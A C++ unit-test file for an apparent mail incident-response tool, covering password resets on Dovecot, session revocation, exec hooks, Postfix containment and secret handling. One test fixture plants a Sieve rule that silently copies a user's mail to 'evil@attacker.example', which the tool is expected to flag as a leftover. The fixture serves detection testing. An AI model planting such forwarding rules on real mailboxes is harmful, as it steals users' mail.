// Hooks that act on local files and commands (dovecot, exec, postfix) with the real command
// runner or a recording fake, the reset procedure with its audit record, and secret references.
#include <fstream>

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include "casedb/action_log.h"
#include "casedb/case_db.h"
#include "casedb/finding_store.h"
#include "core/file_util.h"
#include "hooks/crypt_hash.h"
#include "hooks/dovecot_hook.h"
#include "hooks/exec_hook.h"
#include "hooks/hook_factory.h"
#include "hooks/postfix_containment.h"
#include "hooks/reset_runner.h"
#include "hooks/secret_ref.h"

namespace mxir::hooks {
namespace {

constexpr char kPassword[] = "Nq7XhT4kPwE9rYcA3mLd";

class TempDir {
 public:
  TempDir() {
    char t[] = "/tmp/mxir-hooks-test-XXXXXX";
    path_ = ::mkdtemp(t);
  }
  ~TempDir() { std::system(("rm -rf '" + path_ + "'").c_str()); }
  std::string File(const std::string& name, const std::string& text, mode_t mode = 0600) const {
    std::string p = path_ + "/" + name;
    std::ofstream(p) << text;
    ::chmod(p.c_str(), mode);
    return p;
  }
  const std::string& path() const { return path_; }

 private:
  std::string path_;
};

class RecordingRunner : public CommandRunner {
 public:
  std::vector<CommandSpec> seen;
  int exit_status = 0;
  std::string output;
  Result<CommandResult> Run(const CommandSpec& spec) override {
    seen.push_back(spec);
    CommandResult r;
    r.exit_status = exit_status;
    r.output = output;
    return r;
  }
};

TEST(CommandRunner, StdinEnvExitStatusAndTimeout) {
  SystemCommandRunner runner;
  CommandSpec spec;
  spec.argv = {"/bin/sh", "-c", "read pw; echo \"got $pw for $MXIR_ACCOUNT\"; exit 3"};
  spec.stdin_data = "secret\n";
  spec.env = {{"MXIR_ACCOUNT", "bob"}};
  auto r = runner.Run(spec);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->exit_status, 3);
  EXPECT_EQ(r->output, "got secret for bob\n");
  spec.argv = {"/bin/sleep", "30"};
  spec.stdin_data.clear();
  spec.timeout = std::chrono::milliseconds(300);
  auto start = std::chrono::steady_clock::now();
  auto t = runner.Run(spec);
  ASSERT_TRUE(t.ok());
  EXPECT_TRUE(t->timed_out);
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(5));
  spec.argv = {"/nonexistent/tool"};
  EXPECT_EQ(runner.Run(spec).error().code, ErrorCode::kNotFound);
  // A command that ignores its stdin must not break us (SIGPIPE).
  spec.argv = {"/bin/true"};
  spec.stdin_data = std::string(1 << 20, 'x');
  spec.timeout = std::chrono::seconds(5);
  EXPECT_EQ(runner.Run(spec)->exit_status, 0);
}

TEST(DovecotHook, ResetKeepsOtherLinesModeAndFlushesAndKicks) {
  TempDir dir;
  std::string text =
      "# users\nalice:{PLAIN}a::::::\nbob:{SHA512-CRYPT}$6$x$y:1000:1000::" + dir.path() +
      "/bob::\nodd\n";
  std::string passwd = dir.File("passwd", text, 0640);
  ::mkdir((dir.path() + "/bob").c_str(), 0700);
  ::mkdir((dir.path() + "/bob/sieve").c_str(), 0700);
  dir.File("bob/sieve/x.sieve", "require \"copy\";\nredirect :copy \"evil@attacker.example\";\n");
  if (::geteuid() == 0) {
    // The home is read with its owner's rights (uid 1000 from the entry), never as root.
    ::chmod(dir.path().c_str(), 0755);
    for (const char* p : {"/bob", "/bob/sieve", "/bob/sieve/x.sieve"}) {
      ASSERT_EQ(::chown((dir.path() + p).c_str(), 1000, 1000), 0);
    }
  }
  RecordingRunner runner;
  DovecotHook hook({passwd, CryptScheme::kSha512Crypt, "/usr/bin/doveadm", "/lab/dovecot.conf", ""},
                   runner);
  std::vector<HookStep> steps;
  ASSERT_TRUE(hook.ResetPassword("bob", kPassword, true, steps).ok());
  ASSERT_TRUE(hook.RevokeSessions("bob", steps).ok());
  std::string after = *ReadFile(passwd);
  auto entry_start = after.find("bob:") + 4;
  std::string field = after.substr(entry_start, after.find(':', entry_start) - entry_start);
  EXPECT_TRUE(*CheckPassword(kPassword, field));
  EXPECT_EQ(after.substr(0, entry_start), text.substr(0, entry_start));
  EXPECT_EQ(after.substr(after.find(":1000:1000")), text.substr(text.find(":1000:1000")));
  EXPECT_EQ(*FileMode(passwd), 0640u);
  ASSERT_EQ(runner.seen.size(), 2u);
  EXPECT_EQ(runner.seen[0].argv,
            (std::vector<std::string>{"/usr/bin/doveadm", "-c", "/lab/dovecot.conf", "auth",
                                      "cache", "flush", "bob"}));
  EXPECT_EQ(runner.seen[1].argv, (std::vector<std::string>{"/usr/bin/doveadm", "-c",
                                                           "/lab/dovecot.conf", "kick", "bob"}));
  for (const auto& s : runner.seen) {
    for (const auto& a : s.argv) EXPECT_EQ(a.find(kPassword), std::string::npos);
  }
  EXPECT_TRUE(hook.Verify("bob", kPassword).ok());
  EXPECT_FALSE(hook.Verify("bob", "other-password").ok());
  auto left = hook.ListLeftovers("bob");
  ASSERT_TRUE(left.ok());
  ASSERT_EQ(left->size(), 1u);
  EXPECT_NE((*left)[0].description.find("evil@attacker.example"), std::string::npos);
}

TEST(DovecotHook, FailuresLeaveTheFileUnchanged) {
  TempDir dir;
  std::string text = "bob:x\nbob:y\ncarol\n";
  std::string passwd = dir.File("passwd", text);
  RecordingRunner runner;
  DovecotHook hook({passwd, CryptScheme::kSha512Crypt, "", "", ""}, runner);
  std::vector<HookStep> steps;
  EXPECT_EQ(hook.ResetPassword("bob", kPassword, true, steps).error().code,
            ErrorCode::kInvalidInput);
  EXPECT_EQ(hook.ResetPassword("carol", kPassword, true, steps).error().code,
            ErrorCode::kInvalidInput);
  EXPECT_EQ(hook.ResetPassword("dave", kPassword, true, steps).error().code, ErrorCode::kNotFound);
  EXPECT_EQ(*ReadFile(passwd), text);
  DovecotHook missing({dir.path() + "/nope", CryptScheme::kSha512Crypt, "", "", ""}, runner);
  EXPECT_FALSE(missing.ResetPassword("bob", kPassword, true, steps).ok());
  // doveadm failing is reported, with its output.
  DovecotHook kicking({passwd, CryptScheme::kSha512Crypt, "doveadm", "", ""}, runner);
  runner.exit_status = 75;
  runner.output = "Error: auth-master: connect failed";
  Status s = kicking.RevokeSessions("bob", steps);
  ASSERT_FALSE(s.ok());
  EXPECT_NE(s.error().message.find("connect failed"), std::string::npos);
}

TEST(ExecHook, PasswordOnStdinOnlyAndScrubbedOutput) {
  TempDir dir;
  std::string script =
      dir.File("hook.sh",
               "#!/bin/sh\nread pw\necho \"action=$MXIR_ACTION account=$MXIR_ACCOUNT "
               "force=$MXIR_FORCE_CHANGE pw=$pw\"\ntr '\\0' ' ' < /proc/$$/cmdline\n",
               0700);
  SystemCommandRunner runner;
  ExecHook hook({{script, "--site", "acme"}, kSetPassword, std::chrono::seconds(10)}, runner);
  std::vector<HookStep> steps;
  ASSERT_TRUE(hook.ResetPassword("bob@acme.example", kPassword, true, steps).ok());
  ASSERT_EQ(steps.size(), 1u);
  EXPECT_NE(
      steps[0].detail.find("action=reset_password account=bob@acme.example force=1 pw=[redacted]"),
      std::string::npos)
      << steps[0].detail;
  EXPECT_NE(steps[0].detail.find("--site acme"), std::string::npos);
  EXPECT_EQ(steps[0].detail.find(kPassword), std::string::npos);
  std::string failing = dir.File("fail.sh", "#!/bin/sh\necho no such mailbox >&2\nexit 4\n", 0700);
  ExecHook bad({{failing}, kSetPassword, std::chrono::seconds(10)}, runner);
  Status s = bad.ResetPassword("x", kPassword, true, steps);
  ASSERT_FALSE(s.ok());
  EXPECT_NE(s.error().message.find("exit 4"), std::string::npos);
  EXPECT_NE(s.error().message.find("no such mailbox"), std::string::npos);
}

TEST(PostfixContainment, RefusesAMapPostfixDoesNotUse) {
  TempDir dir;
  RecordingRunner runner;
  runner.output = "permit_sasl_authenticated, reject\n";
  PostfixContainment hook({"/lab/postfix", dir.path() + "/sasl_access", "hash", "/usr/sbin", "x"},
                          runner);
  std::vector<HookStep> steps;
  Status s = hook.SuspendOutbound("bob", steps);
  ASSERT_FALSE(s.ok());
  EXPECT_NE(s.error().message.find("check_sasl_access hash:" + dir.path() + "/sasl_access"),
            std::string::npos);
  EXPECT_FALSE(FileExists(dir.path() + "/sasl_access"));
  EXPECT_EQ(runner.seen.at(0).argv.at(1), "-c");
  EXPECT_EQ(runner.seen.at(0).argv.at(2), "/lab/postfix");
}

// A fake provider for the reset procedure.
class FakeHook : public ProviderHook {
 public:
  std::string name() const override { return "fake"; }
  unsigned capabilities() const override {
    return kSetPassword | kForceChange | kRevokeSessions | kVerify;
  }
  Status ResetPassword(const std::string&, const std::string& pw, bool,
                       std::vector<HookStep>& steps) override {
    last_password = pw;
    steps.push_back({"set_password", true, "done"});
    return Status::Ok();
  }
  Status RevokeSessions(const std::string&, std::vector<HookStep>& steps) override {
    steps.push_back({"revoke_sessions", !revoke_fails, revoke_fails ? "down" : "ok"});
    if (revoke_fails) return MakeError(ErrorCode::kUnavailable, "session service down");
    return Status::Ok();
  }
  Result<std::string> Verify(const std::string&, const std::string& pw) override {
    if (pw != last_password) return MakeError(ErrorCode::kUnavailable, "mismatch");
    return std::string("matches");
  }
  std::string last_password;
  bool revoke_fails = false;
};

TEST(ResetRunner, RecordsTheActionWithoutThePassword) {
  TempDir dir;
  auto c = casedb::CaseDb::Create(dir.path() + "/t.case", {"t", {}, {}, {}, "test"});
  ASSERT_TRUE(c.ok()) << c.error().message;
  FakeHook hook;
  AccountOutcome o = ResetAccount(hook, "bob", kPassword, {});
  EXPECT_EQ(o.outcome, "done");
  EXPECT_TRUE(o.verified);
  ASSERT_TRUE(RecordOutcome(*c, o).ok());
  hook.revoke_fails = true;
  AccountOutcome p = ResetAccount(hook, "bob", kPassword, {});
  EXPECT_EQ(p.outcome, "partial");
  EXPECT_NE(p.error.find("password changed, but ending sessions failed"), std::string::npos);
  ASSERT_TRUE(RecordOutcome(*c, p).ok());
  AccountOutcome d = ResetAccount(hook, "bob", "", {true});
  EXPECT_EQ(d.outcome, "dry_run");
  auto all = casedb::ActionLog(*c).List();
  ASSERT_TRUE(all.ok());
  std::vector<casedb::Action> actions;
  for (const auto& a : *all) {
    if (a.tool == "reset") actions.push_back(a);
  }
  ASSERT_EQ(actions.size(), 2u);
  EXPECT_EQ(actions[0].target, "bob");
  EXPECT_EQ(actions[0].action, "reset_password");
  EXPECT_EQ(actions[0].outcome, "done");
  EXPECT_EQ(actions[0].details["provider"], "fake");
  // Nowhere in the case file: not in the rows, not in the WAL.
  for (const std::string f : {"/t.case", "/t.case-wal"}) {
    auto bytes = ReadFile(dir.path() + f);
    if (bytes.ok()) {
      EXPECT_EQ(bytes->find(kPassword), std::string::npos) << f;
    }
  }
}

TEST(ResetRunner, AccountsFromFindings) {
  TempDir dir;
  auto c = casedb::CaseDb::Create(dir.path() + "/t.case", {"t", {}, {}, {}, "test"});
  ASSERT_TRUE(c.ok());
  casedb::FindingStore store(*c);
  auto add = [&](std::string id, std::string kind, std::string user,
                 std::vector<std::string> users = {}) {
    Finding f;
    f.id = id;
    f.kind = kind;
    f.user = user;
    f.users = users;
    ASSERT_TRUE(store.Upsert(f).ok());
  };
  add("f1", "account_compromise", "bob@x.test");
  add("f2", "bulk_outbound", "", {"carol@x.test", "bob@x.test"});
  add("f3", "stale_credentials", "dave@x.test");
  add("f4", "brute_force", "erin@x.test");
  add("f5", "login_after_attack", "frank@x.test");
  auto a = AccountsFromFindings(*c);
  ASSERT_TRUE(a.ok());
  std::vector<std::string> names;
  for (const auto& e : a->to_reset) names.push_back(e.account);
  std::sort(names.begin(), names.end());
  // account_compromise only: bulk_outbound, brute_force and login_after_attack are skipped.
  EXPECT_EQ(names, (std::vector<std::string>{"bob@x.test"}));
  ASSERT_EQ(a->devices.size(), 1u);
  EXPECT_EQ(a->devices[0].account, "dave@x.test");
  std::vector<std::string> skipped;
  for (const auto& s : a->skipped) {
    skipped.push_back(s.entry.account + " " + s.entry.finding_kind);
    EXPECT_FALSE(s.reason.empty());
  }
  std::sort(skipped.begin(), skipped.end());
  // bob is reset, so his bulk_outbound finding is not listed as a skip.
  EXPECT_EQ(skipped,
            (std::vector<std::string>{"carol@x.test bulk_outbound", "erin@x.test brute_force",
                                      "frank@x.test login_after_attack"}));
}

TEST(SecretRef, FileOrEnvironmentNeverBoth) {
  TempDir dir;
  std::string good = dir.File("s", "tok\n", 0600);
  std::string open = dir.File("o", "tok\n", 0644);
  EXPECT_EQ(*ReadSecretRef({{"secret_file", good}}, "m365"), "tok");
  auto refused = ReadSecretRef({{"secret_file", open}}, "m365");
  ASSERT_FALSE(refused.ok());
  EXPECT_NE(refused.error().message.find("chmod 600"), std::string::npos);
  ::setenv("MXIR_TEST_SECRET", "envtok", 1);
  EXPECT_EQ(*ReadSecretRef({{"secret_env", "MXIR_TEST_SECRET"}}, "m365"), "envtok");
  EXPECT_EQ(ReadSecretRef({}, "m365").error().code, ErrorCode::kUsage);
  EXPECT_EQ(ReadSecretRef({{"secret_env", "X"}, {"secret_file", good}}, "m365").error().code,
            ErrorCode::kUsage);
  EXPECT_EQ(ReadSecretRef({{"secret_env", "MXIR_TEST_UNSET_VAR"}}, "m365").error().code,
            ErrorCode::kNotFound);
}

TEST(HookFactory, ReadsSectionsAndRefusesBadOnes) {
  TempDir dir;
  std::string secret = dir.File("s", "pw\n");
  auto ini = IniFile::Parse(
      "[ldap]\nuri = ldap://127.0.0.1:1\nbind_dn = cn=admin\nuser_dn_template = uid=%s,dc=x\n"
      "secret_file = " +
          secret +
          "\n[exec]\ncommand = /bin/true\nactions = reset_password, bogus\n"
          "[dovecot]\npasswd_file = /x\nscheme = MD5\n",
      "hooks.ini");
  ASSERT_TRUE(ini.ok());
  auto ldap = MakeProviderHook(*ini, "ldap", DefaultClock());
  ASSERT_TRUE(ldap.ok()) << ldap.error().message;
  EXPECT_EQ(ldap->hook().name(), "ldap");
  EXPECT_NE(MakeProviderHook(*ini, "exec", DefaultClock()).error().message.find("bogus"),
            std::string::npos);
  EXPECT_NE(MakeProviderHook(*ini, "dovecot", DefaultClock()).error().message.find("MD5"),
            std::string::npos);
  EXPECT_NE(
      MakeProviderHook(*ini, "m365", DefaultClock()).error().message.find("no [m365] section"),
      std::string::npos);
  EXPECT_NE(
      MakeProviderHook(*ini, "zimbra", DefaultClock()).error().message.find("unknown provider"),
      std::string::npos);
  auto clear = IniFile::Parse(
      "[ldap]\nuri = ldap://ldap.example.com\nbind_dn = cn=a\nbase_dn = dc=x\n"
      "secret_file = " +
          secret + "\n",
      "h.ini");
  EXPECT_NE(MakeProviderHook(*clear, "ldap", DefaultClock()).error().message.find("clear text"),
            std::string::npos);
  // A hooks file readable by others is refused (mode bits, so this holds even as root).
  std::string open = dir.File("hooks.ini", "[exec]\ncommand = /bin/true\n", 0644);
  auto loaded = LoadHooksFile(open);
  ASSERT_FALSE(loaded.ok());
  EXPECT_EQ(loaded.error().ExitStatus(), 2);
}

// P9: a typo in the hooks file is refused with the nearest known key, never silently ignored.
TEST(HookFactory, UnknownKeysAreRefusedWithTheNearestKnownOne) {
  TempDir dir;
  std::string users = dir.File("users", "bob:{PLAIN}x::::::\n");
  auto ini = IniFile::Parse(
      "[dovecot]\npasswd_file = " + users + "\ndoveadm_path = /usr/bin/doveadm\nauth-socket = /x\n",
      "bad2.ini");
  ASSERT_TRUE(ini.ok());
  auto hook = MakeProviderHook(*ini, "dovecot", DefaultClock());
  ASSERT_FALSE(hook.ok());
  EXPECT_EQ(hook.error().ExitStatus(), 2);
  // Keys are checked in order: auth-socket first; its nearest key is auth_socket.
  EXPECT_NE(hook.error().message.find("unknown key 'auth-socket'"), std::string::npos)
      << hook.error().message;
  EXPECT_NE(hook.error().message.find("did you mean 'auth_socket'"), std::string::npos);
  auto typo =
      IniFile::Parse("[dovecot]\npasswd_file = " + users + "\ndoveadm_path = /x\n", "h.ini");
  auto t = MakeProviderHook(*typo, "dovecot", DefaultClock());
  ASSERT_FALSE(t.ok());
  EXPECT_NE(t.error().message.find("did you mean 'doveadm'"), std::string::npos)
      << t.error().message;
  auto far = IniFile::Parse("[exec]\ncommand = /bin/true\ncolour = blue\n", "h.ini");
  auto f = MakeProviderHook(*far, "exec", DefaultClock());
  ASSERT_FALSE(f.ok());
  EXPECT_NE(f.error().message.find("unknown key 'colour'"), std::string::npos);
  EXPECT_EQ(f.error().message.find("did you mean"), std::string::npos) << f.error().message;
  auto good = IniFile::Parse("[exec]\ncommand = /bin/true\ntimeout = 5\nactions = reset_password\n",
                             "h.ini");
  EXPECT_TRUE(MakeProviderHook(*good, "exec", DefaultClock()).ok());
  EXPECT_EQ(NearestWord("pasword_file", {"passwd_file", "scheme", "doveadm"}), "passwd_file");
}

// P9: the dry run never promises a step the real run cannot do, and checks what the steps need.
TEST(DovecotHook, DryRunSaysWhatItCannotDoAndChecksDoveadm) {
  TempDir dir;
  std::string users = dir.File("users", "bob:{PLAIN}x::::::\n");
  RecordingRunner runner;
  DovecotHook no_doveadm({users, CryptScheme::kSha512Crypt, "", "", ""}, runner);
  AccountOutcome o = ResetAccount(no_doveadm, "bob", "", {true});
  EXPECT_EQ(o.outcome, "dry_run");
  ASSERT_FALSE(o.steps.empty());
  EXPECT_EQ(o.steps.back().detail.find("end sessions,"), std::string::npos)
      << o.steps.back().detail;
  EXPECT_NE(o.steps.back().detail.find("will NOT end open sessions"), std::string::npos)
      << o.steps.back().detail;

  DovecotHook missing({users, CryptScheme::kSha512Crypt, dir.path() + "/no-doveadm", "", ""},
                      runner);
  AccountOutcome m = ResetAccount(missing, "bob", "", {true});
  EXPECT_EQ(m.outcome, "failed");
  EXPECT_NE(m.error.find("no such program"), std::string::npos) << m.error;
  DovecotHook no_socket({users, CryptScheme::kSha512Crypt, "", "", dir.path() + "/auth"}, runner);
  AccountOutcome ns = ResetAccount(no_socket, "bob", "", {true});
  EXPECT_EQ(ns.outcome, "failed");
  EXPECT_NE(ns.error.find("no such socket"), std::string::npos) << ns.error;
  EXPECT_TRUE(runner.seen.empty());  // a dry run runs nothing

  // A doveadm that exits 0 but prints an error did not do its step.
  std::string fake = dir.File("doveadm", "#!/bin/sh\nexit 0\n", 0700);
  runner.output = "Error: auth-master: connect(/run/dovecot/auth-master) failed\n";
  DovecotHook erring({users, CryptScheme::kSha512Crypt, fake, "", ""}, runner);
  std::vector<HookStep> steps;
  EXPECT_FALSE(erring.RevokeSessions("bob", steps).ok());
  ASSERT_FALSE(steps.empty());
  EXPECT_FALSE(steps.front().ok);
}

}  // namespace
}  // namespace mxir::hooks
